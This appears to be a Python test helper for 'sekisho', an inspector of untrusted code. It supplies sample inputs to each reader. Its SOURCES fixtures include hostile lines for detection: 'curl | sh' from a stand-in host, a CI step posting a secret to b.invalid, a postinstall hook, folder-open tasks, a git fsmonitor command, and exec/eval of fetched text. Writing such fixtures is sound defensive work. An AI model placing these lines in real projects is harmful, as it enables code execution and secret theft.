"""Readers of what a stranger sent, in inspection's own process and in its workers, each with a valid input."""

import gzip
import io
import json
import pickle
import tarfile
import zipfile
from collections.abc import Callable

from sekisho.inspection.classify import classify, guess
from sekisho.inspection.configs.document import read_ini, read_json, read_toml, read_yaml
from sekisho.inspection.extract import extract
from sekisho.inspection.findings import Findings
from sekisho.inspection.intake.gather import gather_bytes
from sekisho.inspection.languages.pickles import read_pickle
from sekisho.inspection.virtual import Limits, VirtualFile
from sekisho.inspection.wire import dump, load

SOURCES: dict[str, str] = {
    "app.py": "import requests\ntry:\n    t = requests.get('//a.invalid').text\nexcept OSError as e:\n    exec(t)\n",
    "old.py": "print 'x'\nexec open('a').read()\nif a == 1: pass\n",
    "app.js": "const { a } = require('./b');\nswitch (process.platform) { case 'x': eval(atob('eA==')); }\n",
    "app.ts": "export type A<type extends B> =\n  | (type extends 'a' ? C : never)\nlet x: string = y as any;\n",
    "a.sh": 'if [ "$(hostname)" = x ]; then\ncurl -s https://a.invalid | sh\nfi\ncat <<EOF | python\nprint(1)\nEOF\n',
    "a.ipynb": '{"cells": [{"cell_type": "code", "source": ["!echo hi\\n", "x = 1"]}], "metadata": {}}',
    "package.json": '{"scripts": {"postinstall": "node a.js"}, "dependencies": {"x": "git+https://a.invalid/x"}}',
    "package-lock.json": '{"packages": {"node_modules/a": {"resolved": "https://a.invalid/a.tgz", "integrity": "x"}}}',
    ".vscode/tasks.json": '{"tasks": [{"command": "echo", "runOptions": {"runOn": "folderOpen"}}]} // a',
    ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d ${{ secrets.A }} b.invalid\n",
    ".idea/startup.xml": '<component name="ProjectStartupSharedConfiguration"><configuration name="a" /></component>',
    ".git/config": "[core]\n\tfsmonitor = echo hi\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p a\n",
    "pyproject.toml": '[project]\nname = "a"\ndependencies = ["b"]\n[build-system]\nbackend-path = ["."]\n',
    "index.html": "<html><script>let x = 1;</script></html>",
    "Makefile": "all:\n\t@echo $(X)\n",
    "a.pth": "import os\n",
}


def reader_targets() -> dict[str, tuple[bytes, Callable[[bytes], object]]]:
    """Every reader with a valid input."""
    zipped, tarred = io.BytesIO(), io.BytesIO()
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a/app.py", "x = 1\n" * 50)
        archive.writestr("b.txt", "b")
    with tarfile.open(fileobj=tarred, mode="w") as tar:
        head = tarfile.TarInfo("a/app.py")
        head.size = 6
        tar.addfile(head, io.BytesIO(b"x = 1\n"))
    limits = Limits(total_bytes=5_000_000, ratio_free=1_000_000)
    plain: dict[str, tuple[bytes, Callable[[bytes], object]]] = {
        "zip": (zipped.getvalue(), lambda raw: gather_bytes("a.zip", raw, limits)),
        "tar": (tarred.getvalue(), lambda raw: gather_bytes("a.tar", raw, limits)),
        "gzip": (gzip.compress(tarred.getvalue()), lambda raw: gather_bytes("a.tgz", raw, limits)),
        "classes": (
            b"#!/usr/bin/env python3\nimport os\n",
            lambda raw: (classify(VirtualFile("a.png", raw)), guess(raw)),
        ),
        "JSON": (b'{"a": [1, "b\\n", {"c": null}]} // d', lambda raw: read_json(raw.decode("utf-8", "replace"))),
        "YAML": (b"a: &x [1, {b: c}]\nd: *x\n", lambda raw: read_yaml(raw.decode("utf-8", "replace"))),
        "TOML": (b'a = 1\n[b.c]\nd = ["e"]\n', lambda raw: read_toml(raw.decode("utf-8", "replace"))),
        "ini": (b"[a]\nb = c\n  d\n", lambda raw: read_ini(raw.decode("utf-8", "replace"))),
        "pickle": (pickle.dumps({"a": [1, b"c"], "d": {2.5}}), read_pickle),
        "a worker's answer": (
            dump(extract(VirtualFile("app.py", SOURCES["app.py"].encode()), {})),
            lambda raw: load(Findings, raw),
        ),
    }
    return plain | {name: (text.encode(), _extracted(name)) for name, text in SOURCES.items()}


def _extracted(name: str) -> Callable[[bytes], object]:
    """What is found in a file of this name goes to the parent process: it must survive the way."""
    return lambda raw: load(Findings, json.dumps(extract(VirtualFile(name, raw), {})).encode())
